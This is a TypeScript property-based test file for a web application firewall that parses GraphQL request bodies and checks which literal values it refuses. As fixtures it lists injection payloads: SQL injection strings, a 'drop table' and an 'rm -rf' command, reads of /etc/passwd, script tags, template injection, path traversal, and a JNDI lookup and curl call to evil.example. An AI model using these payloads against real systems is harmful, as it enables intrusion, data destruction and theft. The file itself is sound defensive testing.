// What is taken for an executable document, beside what graphql-js parses, and what is judged of one.

import { array, assert as check, constantFrom, letrec, oneof, property, tuple } from 'fast-check'
import type { Arbitrary } from 'fast-check'
import { parse } from 'graphql'
import { describe, expect, test } from 'vitest'

import { frameOfGraphql as framed } from '../../shared/waf/fields/executable.ts'
import { work } from '../../shared/waf/work.ts'
import { payloadGuard } from '../corpora/guard.ts'
import { exchangeOf } from '../corpora/placements.ts'
import { coreEngine } from '../corpora/program.ts'

const MANY = 1000

const frameOfGraphql = (text: string, most: number): string | undefined => {
  work.left = 1e9
  return framed(text, most)
}

const judge = (text: string, name = 'body.query'): boolean =>
  coreEngine({ sensitivity: 1 }).text('json', 'value', name, text).refused

const parses = (text: string): boolean => {
  try {
    parse(text)
    return true
  } catch {
    return false
  }
}

const joined = (...parts: readonly (Arbitrary<string> | string)[]): Arbitrary<string> =>
  tuple(...parts.map((part) => (typeof part === 'string' ? constantFrom(part) : part))).map((texts) =>
    texts.join(' '),
  )
const maybe = (part: Arbitrary<string>): Arbitrary<string> => oneof(constantFrom(''), part)
const some = (part: Arbitrary<string>): Arbitrary<string> =>
  array(part, { minLength: 1, maxLength: 2 }).map((parts) => parts.join(' , '))

const NAMES = constantFrom('a', 'on', 'query', 'fragment', 'type', '_b1', 'null', 'true')
const CONSTANTS = ['0', '-1', '1.5e-3', '""', '"x"', `"it's"`, '"""block"""', 'RED', '[]', '{}']

const { document } = letrec<Record<string, string>>((tie) => ({
  value: oneof(
    { depthSize: 'small' },
    constantFrom(...CONSTANTS, '$v'),
    joined('[', some(tie('value')), ']'),
    joined('{', NAMES, ':', tie('value'), '}'),
  ),
  constant: oneof(constantFrom(...CONSTANTS), joined('{', NAMES, ':', constantFrom(...CONSTANTS), '}')),
  args: joined('(', some(joined(NAMES, ':', tie('value'))), ')'),
  directives: maybe(joined('@', NAMES, maybe(tie('args')))),
  selection: oneof(
    { depthSize: 'small' },
    NAMES,
    joined(maybe(joined(NAMES, ':')), NAMES, maybe(tie('args')), tie('directives'), maybe(tie('set'))),
    joined('...', constantFrom('F', 'G'), tie('directives')),
    joined('...', maybe(constantFrom('on T')), tie('directives'), tie('set')),
  ),
  set: joined('{', some(tie('selection')), '}'),
  variable: joined(
    '$v :',
    constantFrom('T', 'T!', '[T!]!', '[[T]]'),
    maybe(joined('=', tie('constant'))),
    constantFrom('', '@d', '@d(a: 1)'),
  ),
  operation: joined(
    constantFrom('query', 'mutation', 'subscription'),
    maybe(NAMES),
    maybe(joined('(', some(tie('variable')), ')')),
    tie('directives'),
    tie('set'),
  ),
  document: joined(
    maybe(constantFrom('# a comment\n', '\ufeff')),
    oneof(tie('set'), tie('operation')),
    maybe(joined('fragment F on T', tie('directives'), tie('set'))),
  ),
}))

const PIECES = [
  ...'{ } ( ) [ ] : = ! $ @ , # | & a b 0 - " \\'.split(' '),
  ' ',
  '\n',
  ...'... .. query fragment on 01 1. 1e 1a "" """ "x" $v'.split(' '),
]

describe('a document by its grammar', () => {
  test('is one for graphql-js', () => {
    let documents = 0
    const piece = constantFrom(...PIECES)
    const changed = tuple(document as Arbitrary<string>, piece, piece).map(([text, at, by]) =>
      text.replace(at, () => by),
    )
    check(
      property(
        oneof(
          changed,
          array(piece, { maxLength: 12 }).map((pieces) => pieces.join('')),
        ),
        (text) => {
          if (frameOfGraphql(text, MANY) === undefined) return
          documents++
          expect(parses(text), text).toBe(true)
        },
      ),
      { numRuns: 20_000 },
    )
    expect(documents).toBeGreaterThan(1000)
  })

  test('is known where graphql-js knows it', () => {
    let documents = 0
    check(
      property(document as Arbitrary<string>, (text) => {
        if (!parses(text)) return
        documents++
        expect(frameOfGraphql(text, MANY), text).toBeDefined()
      }),
      { numRuns: 5000 },
    )
    expect(documents).toBeGreaterThan(3000)
  })

  test.each([
    ['{find(a:"it\'s 5 o\'clock"){id}}', '{find(a:""){id}}'],
    ['{a(b:["x","""y"""])} # told', '{a(b:["",""""""])} # told'],
    ['query($a:S="b"){c(d:{e:"f"})}', 'query($a:S=""){c(d:{e:""})}'],
  ])('%s has the frame %s', (text, frame) => {
    expect(frameOfGraphql(text, MANY)).toBe(frame)
  })

  test.each([
    '{{7*7}}',
    '{a(7*7)}',
    '{"a"}',
    '{a(b:"x"}',
    '{a(b:"x")} or 1=1',
    '{a "b"}',
    '{a(b:01)}',
    '{a(b:"\ud800")}',
    'type T {a(b:C="x"):D}',
    `${'{a'.repeat(300)}${'}'.repeat(300)}`,
    `{a(b:${'['.repeat(100_000)}`,
    '{a(b:"x"',
    '',
  ])('%j is none', (text) => {
    expect(frameOfGraphql(text, MANY)).toBeUndefined()
  })

  test('is read no further than the work that is left', () => {
    work.left = 100
    expect(framed('{a(b:[1,2,3,4])}', MANY)).toBeUndefined()
    expect(work.left).toBeLessThan(0)
  })

  test('is none with more strings than are looked at', () => {
    expect(frameOfGraphql('{a(b:"x",c:"y")}', 1)).toBeUndefined()
  })
})

// Where the origin is no GraphQL server, the quotes around a literal may end a string of the origin's.
describe('what could go on outside of a literal is judged whole', () => {
  test.each([
    ['a command over two literals', '{a(b:"`cat ",c:" /etc/passwd`")}'],
    ['a parenthesis over two', '{a(b:["if system(" id ") else"])}'],
    ['a condition within single quotes', `{a(b:"' or '",c:"' like '%")}`],
    ['a template', '{a(b:"${",c:"7*7}")}'],
    ['markup', '{a(b:"<script>",c:"</script>")}'],
    ['an operator within double quotes', '{a(b:"="){id}}'],
    ['a difference of nothing', '{a(b:"--"){id}}'],
    ['a word that goes on', '{a(b:"or not",c:"or"){id}}'],
    ['a remainder that is compared', '{a(b:"%1="){id}}'],
    ['a comment over two literals', '{a(b:"a/*",c:"*/b")}'],
    ['a ternary', '{a(b:"?",c:":")}'],
    ['a member', '{a(b:"[",c:"]")}'],
    ['a quote of a comment', '{a(b:[#it\'s\ncurl "evil.example"\n])}'],
    ['a quote before such a word', `{a(b:"x'or'y"){id}}`],
    ['a quote that ends a word', `{a(b:"dogs' bones"){id}}`],
    ['an escape', '{a(b:"\\u0027 x"){id}}'],
    ['a line', '{a(b:"""a\nb"""){id}}'],
    ['a quote in a block', '{a(b:"""a"b"""){id}}'],
  ])('%s: %s', (_, text) => {
    expect(frameOfGraphql(text, MANY)).toBeUndefined()
  })
})

describe('what is judged of a document', () => {
  const HONEST = [
    '100%',
    '%',
    'sleep on it',
    'if (a > b) stop',
    "it's 5 o'clock; done",
    'Ben & Jerry',
    'C# or F#',
  ]

  test.each(HONEST)('%s is an argument', (value) => {
    for (const text of [`{find(a:"${value}"){id}}`, `query Q($x:[A!]=[B]){a@b(c:{d:"${value}"}) ...F}`]) {
      expect(judge(text)).toBe(false)
      expect(judge(text, 'body[0].query')).toBe(false)
    }
  })

  const ATTACKS = [
    "' or '1'='1",
    '1 or 1=1',
    ' or 1=1 -- ',
    "x'; drop table users; --",
    '1; cat /etc/passwd',
    'x; rm -rf /home',
    '<script>alert(1)</script>',
    '{{7*7}}',
    '../../etc/passwd',
    '${jndi:ldap://evil.example/a}',
  ]

  test.each(ATTACKS)('%s is refused in any literal', (value) => {
    expect(judge(`{find(a:"${value}"){id}}`)).toBe(true)
    expect(judge(`{find(a:"x",b:["y","${value}"]){id}}`)).toBe(true)
  })

  test.each(ATTACKS.filter((attack) => !attack.includes('or 1=1')))('%s is refused in a comment', (value) => {
    expect(judge(`{find(a:"x"){id}} # ${value}`)).toBe(true)
  })

  test('under another name the text is judged whole, whatever it was before', () => {
    const guard = payloadGuard({})
    const document = '{find(a:"%"){id}}'
    const refuses = (body: unknown): boolean => {
      const type: readonly [string, string] = ['content-type', 'application/json']
      const { exchange } = exchangeOf('POST', '/a', [type], JSON.stringify(body))
      if (exchange === undefined) throw new Error('no exchange')
      return guard(exchange).kind === 'deny'
    }
    expect(refuses({ query: document })).toBe(false)
    expect(refuses({ query: document, password: document })).toBe(true)
    expect(refuses({ password: document })).toBe(true)
    expect(refuses([{ query: document }])).toBe(false)
  })

  test.each([
    '{a(b:"`cat ",c:" /etc/passwd`")}',
    `{a(b:"' or '",c:"' like '%")}`,
    '{a(b:"<script>",c:"</script>")}',
    '{a(b:"="){id}}',
    '{a(b:"--"){id}}',
    '{{7*7}}',
  ])('what spans two literals is refused: %s', (text) => {
    expect(judge(text)).toBe(true)
  })
})
